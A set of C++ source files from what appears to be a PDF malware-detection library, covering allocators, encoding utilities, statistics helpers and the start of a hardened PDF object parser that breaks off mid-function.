#ifdef PDFSHIELD_ASAN
      // The chunk is about to be freed for real; lift any poison first.
      ASAN_UNPOISON_MEMORY_REGION(chunks_[i].data.get(), chunks_[i].size);
#endif
      reserved_ -= chunks_[i].size;
      AllocStats::note_release(chunks_[i].size);
      chunks_[i] = Chunk{};
    }
  }
  chunks_.resize(keep);
  for (const Chunk& chunk : chunks_) poison_chunk(chunk);
  if (chunks_.empty()) {
    cursor_ = limit_ = nullptr;
  } else {
    active_ = 0;
    cursor_ = chunks_[0].data.get();
    limit_ = cursor_ + chunks_[0].size;
  }
}

}  // namespace pdfshield::support
