// Lightweight allocation accounting for the Table XI reproduction. The
// paper reports "# of Python objects" created while its Python front-end
// processes a document; our analogue counts pdfshield objects (PDF objects,
// tokens, buffers) registered by the modules that create them.
#pragma once

#include <cstddef>
#include <cstdint>

namespace pdfshield::support {

/// Global (thread-unsafe by design: the front-end is single-threaded, like
/// the paper's) object/byte counters.
class AllocStats {
 public:
  static void note_object(std::size_t bytes = 0) {
    ++objects_;
    bytes_ += bytes;
    live_ += bytes;
    if (live_ > peak_) peak_ = live_;
  }

  static void note_release(std::size_t bytes) {
    live_ = (bytes <= live_) ? live_ - bytes : 0;
  }

  static std::uint64_t objects() { return objects_; }
  static std::uint64_t total_bytes() { return bytes_; }
  static std::uint64_t peak_live_bytes() { return peak_; }

  static void reset() { objects_ = bytes_ = live_ = peak_ = 0; }

 private:
  static inline std::uint64_t objects_ = 0;
  static inline std::uint64_t bytes_ = 0;
  static inline std::uint64_t live_ = 0;
  static inline std::uint64_t peak_ = 0;
};

/// RAII scope that snapshots the counters, for measuring one pipeline run.
class AllocScope {
 public:
  AllocScope()
      : objects0_(AllocStats::objects()), bytes0_(AllocStats::total_bytes()) {}

  std::uint64_t objects() const { return AllocStats::objects() - objects0_; }
  std::uint64_t bytes() const { return AllocStats::total_bytes() - bytes0_; }

 private:
  std::uint64_t objects0_;
  std::uint64_t bytes0_;
};

}  // namespace pdfshield::support
