// Lightweight allocation accounting for the Table XI reproduction. The
// paper reports "# of Python objects" created while its Python front-end
// processes a document; our analogue counts pdfshield objects (PDF objects,
// tokens, buffers) registered by the modules that create them.
#pragma once

#include <atomic>
#include <cstddef>
#include <cstdint>

namespace pdfshield::support {

/// Global object/byte counters. Relaxed atomics: the batch scanner runs
/// many front-ends concurrently, so the counters must be race-free, but
/// they are statistics — cross-counter consistency is not required (peak
/// tracking is best-effort under concurrency).
class AllocStats {
 public:
  static void note_object(std::size_t bytes = 0) {
    objects_.fetch_add(1, std::memory_order_relaxed);
    bytes_.fetch_add(bytes, std::memory_order_relaxed);
    const std::uint64_t live =
        live_.fetch_add(bytes, std::memory_order_relaxed) + bytes;
    std::uint64_t peak = peak_.load(std::memory_order_relaxed);
    while (live > peak &&
           !peak_.compare_exchange_weak(peak, live,
                                        std::memory_order_relaxed)) {
    }
  }

  static void note_release(std::size_t bytes) {
    std::uint64_t live = live_.load(std::memory_order_relaxed);
    while (!live_.compare_exchange_weak(live,
                                        bytes <= live ? live - bytes : 0,
                                        std::memory_order_relaxed)) {
    }
  }

  static std::uint64_t objects() {
    return objects_.load(std::memory_order_relaxed);
  }
  static std::uint64_t total_bytes() {
    return bytes_.load(std::memory_order_relaxed);
  }
  static std::uint64_t peak_live_bytes() {
    return peak_.load(std::memory_order_relaxed);
  }

  static void reset() {
    objects_.store(0, std::memory_order_relaxed);
    bytes_.store(0, std::memory_order_relaxed);
    live_.store(0, std::memory_order_relaxed);
    peak_.store(0, std::memory_order_relaxed);
  }

 private:
  static inline std::atomic<std::uint64_t> objects_{0};
  static inline std::atomic<std::uint64_t> bytes_{0};
  static inline std::atomic<std::uint64_t> live_{0};
  static inline std::atomic<std::uint64_t> peak_{0};
};

/// RAII scope that snapshots the counters, for measuring one pipeline run.
class AllocScope {
 public:
  AllocScope()
      : objects0_(AllocStats::objects()), bytes0_(AllocStats::total_bytes()) {}

  std::uint64_t objects() const { return AllocStats::objects() - objects0_; }
  std::uint64_t bytes() const { return AllocStats::total_bytes() - bytes0_; }

 private:
  std::uint64_t objects0_;
  std::uint64_t bytes0_;
};

}  // namespace pdfshield::support
