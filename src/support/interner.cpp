#include "support/interner.hpp"

#include <mutex>

#include "support/alloc_stats.hpp"

namespace pdfshield::support {

std::string_view StringInterner::intern(std::string_view s) {
  return intern_impl(s, /*bounded=*/false);
}

std::string_view StringInterner::intern_stable(std::string_view s) {
  return intern_impl(s, /*bounded=*/true);
}

std::string_view StringInterner::intern_impl(std::string_view s,
                                             bool bounded) {
  if (s.empty()) return {};
  {
    std::shared_lock<std::shared_mutex> lock(mutex_);
    auto it = table_.find(s);
    if (it != table_.end()) return {it->data(), it->size()};
  }
  std::unique_lock<std::shared_mutex> lock(mutex_);
  if (bounded &&
      (table_.size() >= kMaxEntries || bytes_ + s.size() > kMaxBytes)) {
    // Full. Another thread may still have inserted this spelling between
    // the two lock scopes, so prefer the table's copy when it exists;
    // otherwise hand back the caller's own (stable) storage.
    auto it = table_.find(s);
    if (it != table_.end()) return {it->data(), it->size()};
    return s;
  }
  auto [it, inserted] = table_.emplace(s);
  if (inserted) {
    bytes_ += s.size();
    AllocStats::note_object(s.size());
  }
  return {it->data(), it->size()};
}

std::size_t StringInterner::size() const {
  std::shared_lock<std::shared_mutex> lock(mutex_);
  return table_.size();
}

std::size_t StringInterner::bytes() const {
  std::shared_lock<std::shared_mutex> lock(mutex_);
  return bytes_;
}

StringInterner& name_table() {
  static StringInterner table;
  return table;
}

}  // namespace pdfshield::support
