// Bump allocator backing one document's object graph. The parse path
// allocates names, strings, container nodes and decoded payloads here and
// never frees them individually; the whole graph is released in O(1) when
// the owning Document drops its handle, or recycled with reset() by the
// batch scanner so a worker's steady state performs no heap traffic at all.
//
// Not thread-safe: one arena belongs to one document pipeline at a time.
// Abandoned watchdog runners therefore get a private arena, never the
// worker's reusable one (see BatchScanner::scan_one).
#pragma once

#include <cstddef>
#include <cstdint>
#include <memory>
#include <memory_resource>
#include <new>
#include <string_view>
#include <vector>

#include "support/bytes.hpp"

namespace pdfshield::support {

/// Chunked bump allocator with reset-and-reuse. Exposed as a
/// std::pmr::memory_resource so std::pmr containers (the document's object
/// map, dict entry vectors, arrays) draw their nodes from the same chunks
/// as the byte payloads. deallocate() is a no-op by design.
class Arena final : public std::pmr::memory_resource {
 public:
  /// First chunk size; each subsequent chunk doubles up to kMaxChunk.
  static constexpr std::size_t kFirstChunk = 16 * 1024;
  static constexpr std::size_t kMaxChunk = 4 * 1024 * 1024;
  /// reset() retains at most this much chunk capacity for reuse; anything
  /// beyond it is released. Keeps one pathological document (huge decoded
  /// payloads, oversized one-off mints) from bloating a reusable worker
  /// arena for the rest of the process lifetime.
  static constexpr std::size_t kMaxRetainedBytes = 64 * 1024 * 1024;

  Arena() = default;
  explicit Arena(std::size_t first_chunk) : next_chunk_(first_chunk) {}
  ~Arena() override;

  Arena(const Arena&) = delete;
  Arena& operator=(const Arena&) = delete;

  /// Bump-allocates `bytes` with the given alignment. Never returns null;
  /// throws std::bad_alloc only if the underlying chunk allocation fails.
  void* allocate(std::size_t bytes,
                 std::size_t align = alignof(std::max_align_t)) {
    // Sizes can be attacker-derived; a near-SIZE_MAX request must not wrap
    // the `bytes + pad` / `bytes + align` arithmetic here or in
    // allocate_slow and sneak past the bounds checks.
    if (bytes > SIZE_MAX - align) throw std::bad_alloc();
    std::uint8_t* p = cursor_;
    const auto misalign =
        reinterpret_cast<std::uintptr_t>(p) & (align - 1);
    const std::size_t pad = misalign != 0 ? align - misalign : 0;
    if (bytes + pad <= static_cast<std::size_t>(limit_ - cursor_)) {
      p += pad;
      cursor_ = p + bytes;
      used_ += bytes + pad;
      return unpoison(p, bytes);
    }
    return allocate_slow(bytes, align);
  }

  /// Copies `s` into the arena and returns a stable view of the copy.
  std::string_view copy_string(std::string_view s) {
    if (s.empty()) return {};
    auto* p = static_cast<char*>(allocate(s.size(), 1));
    std::char_traits<char>::copy(p, s.data(), s.size());
    return {p, s.size()};
  }

  /// Copies `b` into the arena and returns a stable view of the copy.
  BytesView copy_bytes(BytesView b) {
    if (b.empty()) return {};
    auto* p = static_cast<std::uint8_t*>(allocate(b.size(), 1));
    std::char_traits<char>::copy(reinterpret_cast<char*>(p),
                                 reinterpret_cast<const char*>(b.data()),
                                 b.size());
    return {p, b.size()};
  }

  /// Rewinds to empty while retaining chunks for reuse, up to
  /// kMaxRetainedBytes of capacity (excess chunks are released, so a
  /// pathological document cannot permanently bloat a reusable arena).
  /// All memory previously handed out becomes invalid: under ASan the
  /// chunks are poisoned so any stale view traps immediately; in other
  /// debug builds they are filled with 0xDD so stale reads yield
  /// deterministic garbage.
  void reset();

  /// Bytes handed out since construction or the last reset() (padding
  /// included), i.e. the live footprint of the current document.
  std::size_t bytes_used() const { return used_; }
  /// Largest bytes_used() observed across all passes.
  std::size_t high_water() const {
    return used_ > high_water_ ? used_ : high_water_;
  }
  /// Total capacity of all retained chunks.
  std::size_t bytes_reserved() const { return reserved_; }
  std::size_t chunk_count() const { return chunks_.size(); }
  /// Chunks malloc'd over the arena's lifetime — flat across reset()
  /// passes once the high-water mark is reached (the reuse guarantee the
  /// allocation-regression test pins).
  std::uint64_t chunk_allocations() const { return chunk_allocations_; }
  std::uint64_t resets() const { return resets_; }

 private:
  struct Chunk {
    std::unique_ptr<std::uint8_t[]> data;
    std::size_t size = 0;
  };

  void* do_allocate(std::size_t bytes, std::size_t align) override {
    return allocate(bytes, align);
  }
  void do_deallocate(void* /*p*/, std::size_t /*bytes*/,
                     std::size_t /*align*/) override {
    // Bump allocator: individual frees are no-ops, reset() reclaims all.
  }
  bool do_is_equal(
      const std::pmr::memory_resource& other) const noexcept override {
    return this == &other;
  }

  void* allocate_slow(std::size_t bytes, std::size_t align);
  static void* unpoison(void* p, std::size_t bytes);
  static void poison_chunk(const Chunk& chunk);

  std::vector<Chunk> chunks_;
  std::uint8_t* cursor_ = nullptr;  ///< next free byte in the active chunk
  std::uint8_t* limit_ = nullptr;   ///< one past the active chunk's end
  std::size_t active_ = 0;          ///< index of the active chunk
  std::size_t next_chunk_ = kFirstChunk;  ///< size for the next new chunk
  std::size_t used_ = 0;
  std::size_t high_water_ = 0;
  std::size_t reserved_ = 0;
  std::uint64_t chunk_allocations_ = 0;
  std::uint64_t resets_ = 0;
};

/// Shared ownership of an arena. Documents hold one so object graphs and
/// the chunks they borrow from always die together; batch workers hold one
/// so the same chunks serve every document the worker scans.
using ArenaHandle = std::shared_ptr<Arena>;

}  // namespace pdfshield::support
