#include "support/mmap_file.hpp"

#include <fcntl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>

#include "support/error.hpp"

namespace pdfshield::support {

std::shared_ptr<MappedFile> MappedFile::map(
    const std::filesystem::path& path) {
  const int fd = ::open(path.c_str(), O_RDONLY | O_CLOEXEC);
  if (fd < 0) {
    throw Error("cannot open " + path.string() + ": " +
                std::strerror(errno));
  }
  struct stat st{};
  if (::fstat(fd, &st) != 0) {
    const int err = errno;
    ::close(fd);
    throw Error("cannot stat " + path.string() + ": " + std::strerror(err));
  }
  const auto size = static_cast<std::size_t>(st.st_size);
  void* data = nullptr;
  if (size > 0) {
    // MAP_PRIVATE: a concurrent writer truncating the spool file cannot
    // corrupt pages we already faulted in (new faults may still SIGBUS —
    // the spool contract is write-then-rename, so files are immutable
    // once visible).
    data = ::mmap(nullptr, size, PROT_READ, MAP_PRIVATE, fd, 0);
    if (data == MAP_FAILED) {
      const int err = errno;
      ::close(fd);
      throw Error("cannot mmap " + path.string() + ": " +
                  std::strerror(err));
    }
  }
  ::close(fd);  // the mapping keeps the pages alive
  return std::shared_ptr<MappedFile>(new MappedFile(data, size));
}

MappedFile::~MappedFile() {
  if (data_ != nullptr) ::munmap(data_, size_);
}

}  // namespace pdfshield::support
