#include "support/encoding.hpp"

#include <array>
#include <cctype>

#include "support/error.hpp"

namespace pdfshield::support {

namespace {

int hex_digit(char c) {
  if (c >= '0' && c <= '9') return c - '0';
  if (c >= 'a' && c <= 'f') return c - 'a' + 10;
  if (c >= 'A' && c <= 'F') return c - 'A' + 10;
  return -1;
}

constexpr char kB64[] =
    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

std::array<int, 256> build_b64_rev() {
  std::array<int, 256> rev{};
  rev.fill(-1);
  for (int i = 0; i < 64; ++i) rev[static_cast<unsigned char>(kB64[i])] = i;
  return rev;
}

}  // namespace

std::string hex_encode(BytesView data) {
  static const char kHex[] = "0123456789abcdef";
  std::string out;
  out.reserve(data.size() * 2);
  for (std::uint8_t b : data) {
    out.push_back(kHex[b >> 4]);
    out.push_back(kHex[b & 0xf]);
  }
  return out;
}

Bytes hex_decode(std::string_view text) {
  Bytes out;
  out.reserve(text.size() / 2);
  int hi = -1;
  for (char c : text) {
    if (std::isspace(static_cast<unsigned char>(c))) continue;
    int d = hex_digit(c);
    if (d < 0) throw DecodeError(std::string("invalid hex character '") + c + "'");
    if (hi < 0) {
      hi = d;
    } else {
      out.push_back(static_cast<std::uint8_t>((hi << 4) | d));
      hi = -1;
    }
  }
  if (hi >= 0) throw DecodeError("odd number of hex digits");
  return out;
}

std::string base64_encode(BytesView data) {
  std::string out;
  out.reserve((data.size() + 2) / 3 * 4);
  std::size_t i = 0;
  while (i + 3 <= data.size()) {
    std::uint32_t v = (data[i] << 16) | (data[i + 1] << 8) | data[i + 2];
    out.push_back(kB64[(v >> 18) & 63]);
    out.push_back(kB64[(v >> 12) & 63]);
    out.push_back(kB64[(v >> 6) & 63]);
    out.push_back(kB64[v & 63]);
    i += 3;
  }
  const std::size_t rem = data.size() - i;
  if (rem == 1) {
    std::uint32_t v = data[i] << 16;
    out.push_back(kB64[(v >> 18) & 63]);
    out.push_back(kB64[(v >> 12) & 63]);
    out.append("==");
  } else if (rem == 2) {
    std::uint32_t v = (data[i] << 16) | (data[i + 1] << 8);
    out.push_back(kB64[(v >> 18) & 63]);
    out.push_back(kB64[(v >> 12) & 63]);
    out.push_back(kB64[(v >> 6) & 63]);
    out.push_back('=');
  }
  return out;
}

Bytes base64_decode(std::string_view text) {
  static const std::array<int, 256> kRev = build_b64_rev();
  Bytes out;
  out.reserve(text.size() / 4 * 3);
  std::uint32_t acc = 0;
  int bits = 0;
  int pad = 0;
  for (char c : text) {
    if (std::isspace(static_cast<unsigned char>(c))) continue;
    if (c == '=') {
      ++pad;
      continue;
    }
    if (pad > 0) throw DecodeError("base64 data after padding");
    int v = kRev[static_cast<unsigned char>(c)];
    if (v < 0) throw DecodeError(std::string("invalid base64 character '") + c + "'");
    acc = (acc << 6) | static_cast<std::uint32_t>(v);
    bits += 6;
    if (bits >= 8) {
      bits -= 8;
      out.push_back(static_cast<std::uint8_t>((acc >> bits) & 0xff));
    }
  }
  if (pad > 2) throw DecodeError("too much base64 padding");
  return out;
}

}  // namespace pdfshield::support
