// Descriptive statistics used by the evaluation harness (CDFs for Fig 6,
// means for Fig 7, marginals for Table VI).
#pragma once

#include <cstddef>
#include <vector>

namespace pdfshield::support {

/// Streaming mean/variance accumulator (Welford's algorithm).
class RunningStats {
 public:
  void add(double x);

  std::size_t count() const { return n_; }
  double mean() const { return n_ ? mean_ : 0.0; }
  /// Sample variance (n-1 denominator); 0 for fewer than two samples.
  double variance() const;
  double stddev() const;
  double min() const { return min_; }
  double max() const { return max_; }
  double sum() const { return sum_; }

 private:
  std::size_t n_ = 0;
  double mean_ = 0.0;
  double m2_ = 0.0;
  double min_ = 0.0;
  double max_ = 0.0;
  double sum_ = 0.0;
};

/// Returns the p-th percentile (0..100) by linear interpolation over a copy
/// of `values`. Throws LogicError if `values` is empty.
double percentile(std::vector<double> values, double p);

/// One point on an empirical CDF.
struct CdfPoint {
  double x;        ///< Value.
  double fraction; ///< P(X <= x).
};

/// Empirical CDF evaluated at every distinct sample value (sorted).
std::vector<CdfPoint> empirical_cdf(std::vector<double> values);

/// Fraction of `values` that are <= x (0 if empty).
double cdf_at(const std::vector<double>& values, double x);

}  // namespace pdfshield::support
