// Small string utilities shared across parsers and report writers.
#pragma once

#include <string>
#include <string_view>
#include <vector>

namespace pdfshield::support {

/// Splits on a single-character delimiter; adjacent delimiters yield empty
/// fields. An empty input yields one empty field.
std::vector<std::string> split(std::string_view text, char delim);

/// Joins parts with `sep` between them.
std::string join(const std::vector<std::string>& parts, std::string_view sep);

/// Removes leading and trailing ASCII whitespace.
std::string_view trim(std::string_view text);

/// Replaces every occurrence of `from` (non-empty) with `to`.
std::string replace_all(std::string_view text, std::string_view from,
                        std::string_view to);

/// ASCII lowercase copy.
std::string to_lower(std::string_view text);

/// True if `text` contains `needle`.
bool contains(std::string_view text, std::string_view needle);

/// Formats a double with `digits` significant decimals, trimming zeros.
std::string format_double(double value, int digits = 4);

}  // namespace pdfshield::support
