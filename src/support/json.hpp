// Minimal JSON document builder + serializer (output only). Used for the
// detector's user-facing alert reports; no parsing needed in this project.
#pragma once

#include <map>
#include <memory>
#include <string>
#include <vector>

namespace pdfshield::support {

/// A JSON value with value semantics.
class Json {
 public:
  Json() : kind_(Kind::kNull) {}
  Json(std::nullptr_t) : kind_(Kind::kNull) {}
  Json(bool b) : kind_(Kind::kBool), bool_(b) {}
  Json(double d) : kind_(Kind::kNumber), number_(d) {}
  Json(int i) : kind_(Kind::kNumber), number_(i) {}
  Json(std::int64_t i) : kind_(Kind::kNumber), number_(static_cast<double>(i)) {}
  Json(std::uint64_t i) : kind_(Kind::kNumber), number_(static_cast<double>(i)) {}
  Json(const char* s) : kind_(Kind::kString), string_(s) {}
  Json(std::string s) : kind_(Kind::kString), string_(std::move(s)) {}

  /// Makes an (empty) object / array.
  static Json object() {
    Json j;
    j.kind_ = Kind::kObject;
    return j;
  }
  static Json array() {
    Json j;
    j.kind_ = Kind::kArray;
    return j;
  }

  /// Object field access (creates fields; converts null to object).
  Json& operator[](const std::string& key);

  /// Array append (converts null to array).
  void push_back(Json value);

  bool is_null() const { return kind_ == Kind::kNull; }
  bool is_object() const { return kind_ == Kind::kObject; }
  bool is_array() const { return kind_ == Kind::kArray; }

  /// Serializes; `indent` > 0 pretty-prints.
  std::string dump(int indent = 0) const;

 private:
  enum class Kind { kNull, kBool, kNumber, kString, kObject, kArray };

  void dump_to(std::string& out, int indent, int depth) const;

  Kind kind_;
  bool bool_ = false;
  double number_ = 0;
  std::string string_;
  std::vector<std::pair<std::string, Json>> fields_;  // insertion order
  std::vector<Json> items_;
};

}  // namespace pdfshield::support
