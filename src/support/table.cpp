#include "support/table.hpp"

#include <algorithm>
#include <ostream>
#include <sstream>

#include "support/error.hpp"

namespace pdfshield::support {

TextTable::TextTable(std::vector<std::string> headers)
    : headers_(std::move(headers)) {}

void TextTable::add_row(std::vector<std::string> cells) {
  if (cells.size() != headers_.size()) {
    throw LogicError("TextTable row arity mismatch");
  }
  rows_.push_back(std::move(cells));
}

std::string TextTable::render(const std::string& title) const {
  std::vector<std::size_t> widths(headers_.size());
  for (std::size_t c = 0; c < headers_.size(); ++c) widths[c] = headers_[c].size();
  for (const auto& row : rows_) {
    for (std::size_t c = 0; c < row.size(); ++c) {
      widths[c] = std::max(widths[c], row[c].size());
    }
  }

  auto emit_row = [&](std::ostringstream& os, const std::vector<std::string>& row) {
    os << "|";
    for (std::size_t c = 0; c < row.size(); ++c) {
      os << ' ' << row[c] << std::string(widths[c] - row[c].size(), ' ') << " |";
    }
    os << '\n';
  };

  std::ostringstream os;
  if (!title.empty()) os << title << '\n';
  emit_row(os, headers_);
  os << "|";
  for (std::size_t c = 0; c < headers_.size(); ++c) {
    os << std::string(widths[c] + 2, '-') << "|";
  }
  os << '\n';
  for (const auto& row : rows_) emit_row(os, row);
  return os.str();
}

std::ostream& operator<<(std::ostream& os, const TextTable& t) {
  return os << t.render();
}

}  // namespace pdfshield::support
