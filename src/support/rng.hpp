// Deterministic pseudo-random source (xoshiro256**). All randomness in the
// library flows through an explicitly seeded Rng so every corpus, key and
// experiment is reproducible from its seed.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "support/bytes.hpp"
#include "support/error.hpp"

namespace pdfshield::support {

class Rng {
 public:
  /// Seeds the generator; the same seed always yields the same stream.
  explicit Rng(std::uint64_t seed = 0x9e3779b97f4a7c15ULL);

  /// Next raw 64-bit output.
  std::uint64_t next_u64();

  /// Uniform integer in [lo, hi] (inclusive). Requires lo <= hi.
  std::uint64_t uniform(std::uint64_t lo, std::uint64_t hi);

  /// Uniform integer in [0, n). Requires n > 0.
  std::uint64_t below(std::uint64_t n) { return uniform(0, n - 1); }

  /// Uniform double in [0, 1).
  double uniform01();

  /// Bernoulli trial with probability p of returning true.
  bool chance(double p) { return uniform01() < p; }

  /// `n` random bytes.
  Bytes bytes(std::size_t n);

  /// Random lowercase-hex string of `n` characters (e.g. for keys).
  std::string hex_string(std::size_t n);

  /// Random identifier: a letter followed by `n-1` alphanumerics.
  std::string identifier(std::size_t n);

  /// Picks a uniformly random element of a non-empty vector.
  template <typename T>
  const T& pick(const std::vector<T>& v) {
    if (v.empty()) throw LogicError("Rng::pick on empty vector");
    return v[static_cast<std::size_t>(below(v.size()))];
  }

  /// Fisher–Yates shuffle.
  template <typename T>
  void shuffle(std::vector<T>& v) {
    for (std::size_t i = v.size(); i > 1; --i) {
      std::size_t j = static_cast<std::size_t>(below(i));
      using std::swap;
      swap(v[i - 1], v[j]);
    }
  }

  /// Derives an independent child generator (for parallel experiment arms).
  Rng fork();

 private:
  std::uint64_t s_[4];
};

}  // namespace pdfshield::support
