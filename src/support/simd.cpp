#include "support/simd.hpp"

#include <atomic>
#include <cstdlib>

namespace pdfshield::support::simd {

namespace {

Level probe_cpu() {
#if defined(__x86_64__) || defined(__i386__)
  // GCC/clang builtin CPU feature probe; initializes the feature words on
  // first use. AVX2 implies SSSE3 on every shipping CPU, but probe both.
  __builtin_cpu_init();
  if (__builtin_cpu_supports("avx2")) return Level::kAVX2;
  if (__builtin_cpu_supports("ssse3")) return Level::kSSSE3;
#endif
  return Level::kScalar;
}

Level initial_level() {
  const char* disable = std::getenv("PDFSHIELD_DISABLE_SIMD");
  if (disable != nullptr && disable[0] != '\0' && disable[0] != '0') {
    return Level::kScalar;
  }
  return probe_cpu();
}

std::atomic<Level>& level_slot() {
  static std::atomic<Level> slot{initial_level()};
  return slot;
}

}  // namespace

Level active_level() {
  return level_slot().load(std::memory_order_relaxed);
}

Level override_level(Level level) {
  const Level cap = detected_level();
  if (static_cast<std::uint8_t>(level) > static_cast<std::uint8_t>(cap)) {
    level = cap;
  }
  return level_slot().exchange(level, std::memory_order_relaxed);
}

Level detected_level() {
  static const Level detected = probe_cpu();
  return detected;
}

}  // namespace pdfshield::support::simd
