#include "pdf/graph.hpp"

namespace pdfshield::pdf {

namespace {

void collect_into(const Object& obj, std::vector<Ref>& out) {
  switch (obj.value().index()) {
    case 6:  // array
      for (const Object& item : obj.as_array()) collect_into(item, out);
      return;
    case 7:  // dict
      for (const auto& e : obj.as_dict().entries()) collect_into(e.value, out);
      return;
    case 8:  // stream
      for (const auto& e : obj.as_stream().dict.entries()) collect_into(e.value, out);
      return;
    case 9:  // ref
      out.push_back(obj.as_ref());
      return;
    default:
      return;
  }
}

}  // namespace

std::vector<Ref> collect_refs(const Object& obj) {
  std::vector<Ref> out;
  collect_into(obj, out);
  return out;
}

ObjectGraph::ObjectGraph(const Document& doc) {
  for (const auto& [num, obj] : doc.objects()) {
    all_.push_back(num);
    auto& kids = children_[num];
    for (const Ref& r : collect_refs(obj)) {
      kids.push_back(r.num);
      parents_[r.num].push_back(num);
    }
  }
}

const std::vector<int>& ObjectGraph::children(int num) const {
  auto it = children_.find(num);
  return it == children_.end() ? empty_ : it->second;
}

const std::vector<int>& ObjectGraph::parents(int num) const {
  auto it = parents_.find(num);
  return it == parents_.end() ? empty_ : it->second;
}

namespace {

std::set<int> closure(int start,
                      const std::vector<int>& (ObjectGraph::*step)(int) const,
                      const ObjectGraph& g) {
  std::set<int> seen;
  std::vector<int> work = (g.*step)(start);
  while (!work.empty()) {
    const int cur = work.back();
    work.pop_back();
    if (!seen.insert(cur).second) continue;
    for (int next : (g.*step)(cur)) work.push_back(next);
  }
  return seen;
}

}  // namespace

std::set<int> ObjectGraph::descendants(int num) const {
  return closure(num, &ObjectGraph::children, *this);
}

std::set<int> ObjectGraph::ancestors(int num) const {
  return closure(num, &ObjectGraph::parents, *this);
}

}  // namespace pdfshield::pdf
