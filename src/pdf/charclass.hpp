// 256-entry character classification for PDF syntax (§3.1): one table
// lookup answers whitespace / delimiter / regular / digit / hex-digit /
// number-start in a single load, replacing the per-byte predicate calls the
// lexer token loops used to make.
//
// On top of the table sit three block-at-a-time span scanners used by the
// token hot paths (name/keyword extents, literal-string specials, comment
// EOLs). Each has a vectorized body (SSSE3 nibble-classification via
// pshufb, or SSE2 compare-and-movemask) selected through
// `support::simd::active_level()`, and a SWAR/scalar fallback that is
// always compiled — `PDFSHIELD_DISABLE_SIMD=1` pins every scan to it.
// All variants return identical results by construction; the lexer
// differential test and the charclass agreement test pin that.
#pragma once

#include <array>
#include <cstdint>

#include "support/simd.hpp"

namespace pdfshield::pdf {

inline constexpr std::uint8_t kCcWhitespace = 0x01;   ///< NUL TAB LF FF CR SP
inline constexpr std::uint8_t kCcDelimiter = 0x02;    ///< ( ) < > [ ] { } / %
inline constexpr std::uint8_t kCcDigit = 0x04;        ///< 0-9
inline constexpr std::uint8_t kCcHexDigit = 0x08;     ///< 0-9 a-f A-F
inline constexpr std::uint8_t kCcNumberStart = 0x10;  ///< 0-9 + - .

/// Flags per byte value; see the kCc* bits.
extern const std::array<std::uint8_t, 256> kCharClass;

/// Hex digit value per byte, -1 for non-hex.
extern const std::array<std::int8_t, 256> kHexValue;

inline std::uint8_t char_class(std::uint8_t c) { return kCharClass[c]; }

inline bool cc_has(std::uint8_t c, std::uint8_t flags) {
  return (kCharClass[c] & flags) != 0;
}

/// Regular = neither whitespace nor delimiter (name/keyword body bytes).
inline bool cc_regular(std::uint8_t c) {
  return (kCharClass[c] & (kCcWhitespace | kCcDelimiter)) == 0;
}

/// Length of the longest all-regular prefix of [p, p+n) starting at `from`
/// (vector/SWAR body for long runs; callers use scan_regular_run below).
std::size_t scan_regular_run_long(const std::uint8_t* p, std::size_t n,
                                  std::size_t from);

/// Length of the longest all-regular prefix of [p, p+n). Short tokens (the
/// overwhelmingly common case: /Type, obj, 65535) resolve in the inline
/// head loop without a call; longer runs continue block-at-a-time.
inline std::size_t scan_regular_run(const std::uint8_t* p, std::size_t n) {
  const std::size_t head = n < 16 ? n : 16;
  std::size_t i = 0;
  while (i < head && cc_regular(p[i])) ++i;
  if (i == 16 && i < n) return scan_regular_run_long(p, n, 16);
  return i;
}

/// Index of the first backslash, '(' or ')' in [p, p+n); n if none.
/// Drives the literal-string structure scan.
std::size_t scan_string_special(const std::uint8_t* p, std::size_t n);

/// Index of the first CR or LF in [p, p+n); n if none (comment skipping).
std::size_t scan_to_eol(const std::uint8_t* p, std::size_t n);

}  // namespace pdfshield::pdf
