#include "pdf/parser.hpp"

#include <string>
#include <utility>

#include "pdf/filters.hpp"
#include "pdf/lexer.hpp"
#include "pdf/xref.hpp"
#include "support/alloc_stats.hpp"
#include "support/error.hpp"
#include "support/interner.hpp"

namespace pdfshield::pdf {

using support::Bytes;
using support::BytesView;
using support::CowBytes;
using support::ParseError;

namespace {

class ObjectParser {
 public:
  ObjectParser(Lexer& lexer, ParseStats& stats,
               std::pmr::memory_resource* mem = std::pmr::get_default_resource())
      : lex_(lexer), stats_(stats), mem_(mem) {}

  /// Parses one object expression starting at the current token.
  Object parse_value() {
    DepthGuard guard(*this);
    Token t = take();
    switch (t.kind) {
      case TokenKind::kInteger:
        return parse_number_or_ref(t);
      case TokenKind::kReal:
        return Object(t.real_value);
      case TokenKind::kName:
        // Token views live in the input buffer / arena, so the bounded
        // stable() path applies: attacker-minted spellings must not grow
        // the process-lifetime name table without bound.
        return Object(Name::stable(t.text, t.raw));
      case TokenKind::kString:
        return Object(String{CowBytes::borrow(t.bytes), t.hex_string});
      case TokenKind::kArrayOpen:
        return parse_array();
      case TokenKind::kDictOpen:
        return parse_dict_or_stream();
      case TokenKind::kKeyword:
        if (t.text == "true") return Object(true);
        if (t.text == "false") return Object(false);
        if (t.text == "null") return Object::null();
        throw ParseError("unexpected keyword '" + std::string(t.text) +
                         "' in object");
      default:
        throw ParseError("unexpected token in object at offset " +
                         std::to_string(t.offset));
    }
  }

 private:
  // Attacker-controlled nesting (e.g. [[[[...]]]]) must fail with a
  // ParseError — which the recovery scan skips past — rather than
  // overflow the stack. Real documents nest a handful of levels deep.
  static constexpr int kMaxDepth = 256;

  struct DepthGuard {
    explicit DepthGuard(ObjectParser& p) : parser(p) {
      if (++parser.depth_ > kMaxDepth) {
        throw ParseError("object nesting too deep");
      }
    }
    ~DepthGuard() { --parser.depth_; }
    ObjectParser& parser;
  };

  Token take() {
    ++stats_.tokens;
    return lex_.next();
  }

  Object parse_number_or_ref(const Token& first) {
    // Possible "A B R" indirect reference: needs two tokens of lookahead.
    const std::size_t mark = lex_.position();
    const Token second = lex_.peek();
    if (second.kind == TokenKind::kInteger) {
      lex_.next();
      const Token third = lex_.peek();
      if (third.kind == TokenKind::kKeyword && third.text == "R") {
        lex_.next();
        stats_.tokens += 2;
        return Object(Ref{static_cast<int>(first.int_value),
                          static_cast<int>(second.int_value)});
      }
      lex_.seek(mark);  // not a reference; rewind past the consumed int
    }
    return Object(first.int_value);
  }

  Object parse_array() {
    Array arr(mem_);
    while (true) {
      const Token& t = lex_.peek();
